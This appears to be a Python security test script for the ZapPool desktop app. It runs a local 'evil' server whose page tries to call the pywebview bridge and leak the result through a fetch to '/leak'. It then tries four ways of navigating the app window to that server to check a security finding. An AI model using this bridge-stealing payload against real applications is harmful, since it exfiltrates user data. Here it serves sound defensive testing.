"""Finding 12's attack on real windows, in a process of its own (tests/test_security_local.py starts it).

ZapPool's windows (backend.desktop.runner.run_windows: real pywebview over Qt, offscreen) over its real server,
and a foreign web server on another port whose page, if a window ever showed it, would call the js_api bridge
and report what it got. The main window is sent there every way a window can be: a script's `location = ...`,
a clicked link, a load of the foreign address (what dropping a URL on the window does) and of a file:// URL
(dropping a file). Prints one line `NAV <json>`: the foreign server's hits, the window's address after each
attempt, and the URLs handed to the system browser ($BROWSER, a recorder the test sets).

    python tests/desktop_navigation.py DATA_DIR
"""

from __future__ import annotations

import json
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from backend.assembly import build_pool, build_service  # noqa: E402
from backend.api import create_app  # noqa: E402
from backend.api.server import ApiServer  # noqa: E402
from backend.auth.passwords import ScryptParams  # noqa: E402
from backend.auth.service import AuthService  # noqa: E402
from backend.config import Settings  # noqa: E402
from backend.desktop.runner import run_windows  # noqa: E402
from backend.desktop.windows import WindowManager  # noqa: E402
from backend.engine import EngineRuntime  # noqa: E402

HITS: list[str] = []
EVIL_PAGE = b"""<!doctype html><script>
setTimeout(async () => {
  let got = 'no bridge';
  try { got = JSON.stringify(await window.pywebview.api.get_pool_stats()); } catch (e) { got = String(e); }
  fetch('/leak?' + encodeURIComponent(got));
}, 1500);
</script>evil"""


class Evil(BaseHTTPRequestHandler):
    """The foreign site: records every request, serves the page that reaches for the bridge."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        HITS.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(EVIL_PAGE)

    def log_message(self, *args: Any) -> None:
        pass


def attack(windows: WindowManager, evil: str, data: Path, answer: dict[str, Any]) -> None:
    """Each way away from ZapPool's page, then where the window is; the windows closed at the end."""
    main = windows.window("main")
    tries = {
        "script": lambda: main.evaluate_js(f"location.href = '{evil}/script'"),
        "link": lambda: main.evaluate_js(f"document.body.appendChild(Object.assign(document.createElement('a'), "
                                         f"{{href: '{evil}/link'}})).click()"),
        "dropped_url": lambda: main.load_url(f"{evil}/dropped"),
        "dropped_file": lambda: main.load_url((data / "messages.db").as_uri()),
    }
    try:
        time.sleep(2)  # the first page loaded
        answer["start"] = main.get_current_url()
        for name, send in tries.items():
            send()
            time.sleep(3)  # a foreign page would have loaded, and called the bridge, by now
            answer[name] = main.get_current_url()
    except Exception as exc:  # noqa: BLE001 - reported to the test, which shows it
        answer["error"] = repr(exc)
    finally:
        windows.close_all()


def main(data: Path) -> int:
    """ZapPool's windows over its server, the foreign server beside it, the attack, the answer printed."""
    evil_server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil_server.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{evil_server.server_port}"
    settings = Settings(data_dir=data, whatsapp_url=evil, restore_on_start=False)
    engine = EngineRuntime(settings)
    pool = build_pool(settings, engine)
    pool.start()
    auth = AuthService.in_folder(data, scrypt=ScryptParams(n=2 ** 10, r=8, p=1))
    service = build_service(pool, auth)
    api = ApiServer(create_app(service, auth), auth, port=0).start()
    answer: dict[str, Any] = {"base": api.url}
    try:
        run_windows(service, auth, api.url, on_started=lambda windows: attack(windows, evil, data, answer))
    finally:
        api.stop()
        pool.shutdown()
        engine.stop()
        evil_server.shutdown()
    answer["hits"] = HITS
    print("NAV " + json.dumps(answer), flush=True)
    return 0 if "error" not in answer else 1


if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1])))
